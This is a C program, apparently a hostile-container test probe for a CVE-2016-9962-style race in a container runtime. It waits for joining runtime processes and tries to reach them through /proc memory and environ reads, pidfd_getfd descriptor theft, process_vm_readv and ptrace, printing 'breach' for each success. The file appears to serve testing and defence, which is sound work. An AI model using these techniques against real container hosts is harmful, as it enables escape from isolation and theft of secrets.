/* A program of a hostile container: waits for processes that join, and tries whatever would let it look into one or hold it
 * before it has become its program (CVE-2016-9962). Prints a line for each that worked, and "met" for each process that it met.
 *
 * A process that joins is told by its name, which is the engine's until it executes. That something worked *on the engine* and not
 * on the program that came a moment later is told by its link exe, which then names the engine's memory file. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t over;
static pid_t last;

static void end(int number)
{
    (void)number;
    over = 1;
}

static int get(pid_t pid, const char *name, int is_link, char *buffer, size_t size)
{
    char path[64];
    ssize_t got = -1;

    snprintf(path, sizeof path, "/proc/%d/%s", (int)pid, name);
    if (is_link) {
        got = readlink(path, buffer, size - 1);
    } else {
        int fd = open(path, O_RDONLY);
        if (fd >= 0) {
            got = read(fd, buffer, size - 1);
            close(fd);
        }
    }
    if (got < 0)
        return -1;
    buffer[got] = '\0';
    return (int)got;
}

static int is_engine(pid_t pid)
{
    char exe[256];
    return get(pid, "exe", 1, exe, sizeof exe) > 0 && strstr(exe, "memfd");
}

static void tell(pid_t pid, const char *what)
{
    if (is_engine(pid)) {
        printf("breach: %s\n", what);
        fflush(stdout);
    }
}

static void try_files(pid_t pid)
{
    static const char *const names[] = {"mem", "maps", "environ", "auxv", "syscall", "stack"};
    static const char *const links[] = {"exe", "root", "cwd", "fd/3", "fd/7", "ns/user"};
    char path[64], buffer[4096];

    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", (int)pid, names[i]);
        int fd = open(path, i ? O_RDONLY : O_RDWR);
        if (fd >= 0)
            tell(pid, names[i]);
        if (fd >= 0 && i == 2) {
            ssize_t got = read(fd, buffer, sizeof buffer);
            if (got > 0 && memmem(buffer, (size_t)got, "OF_THE_CALLER", 13))
                printf("breach: the caller's environment\n");
        }
        close(fd);
    }
    for (size_t i = 0; i < sizeof links / sizeof *links; i++)
        if (get(pid, links[i], 1, buffer, sizeof buffer) >= 0)
            tell(pid, links[i]);
}

static void try_calls(pid_t pid)
{
    char byte;
    struct iovec here = {&byte, 1}, there = {(void *)0x1001000, 1};
    int status, pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

    for (int fd = 3; pidfd >= 0 && fd < 16; fd++) {
        int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (got >= 0) {
            tell(pid, "pidfd_getfd");
            close(got);
        }
    }
    close(pidfd);
    if (process_vm_readv(pid, &here, 1, &there, 1, 0) == 1)
        tell(pid, "process_vm_readv");
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        tell(pid, "ptrace");
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, &status, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

/* The newest process, which is further on than `last` where several came and went while this one did not run. */
static void catch_up(void)
{
    char line[128], *word;
    int fd = open("/proc/loadavg", O_RDONLY);
    ssize_t got = fd < 0 ? -1 : read(fd, line, sizeof line - 1);

    close(fd);
    if (got <= 0)
        return;
    line[got] = '\0';
    word = strrchr(line, ' ');
    if (word && atoi(word) > last)
        last = atoi(word);
}

/* 0: there is no such process yet. */
static int look(pid_t pid)
{
    char name[32];

    if (get(pid, "comm", 0, name, sizeof name) < 0)
        return 0;
    if (strncmp(name, "pod", 3)) {
        last = pid;
        return 1;
    }
    try_files(pid);
    try_calls(pid);
    if (pid != last) {
        printf("met\n");
        fflush(stdout);
    }
    last = pid;
    return 1;
}

int main(void)
{
    signal(SIGTERM, end);
    last = getpid();
    printf("watching\n");
    fflush(stdout);
    for (unsigned round = 1; !over; round++) {
        for (pid_t pid = last; pid < last + 4; pid++)
            look(pid);
        if (round % 64 == 0)
            catch_up();
    }
    return 0;
}
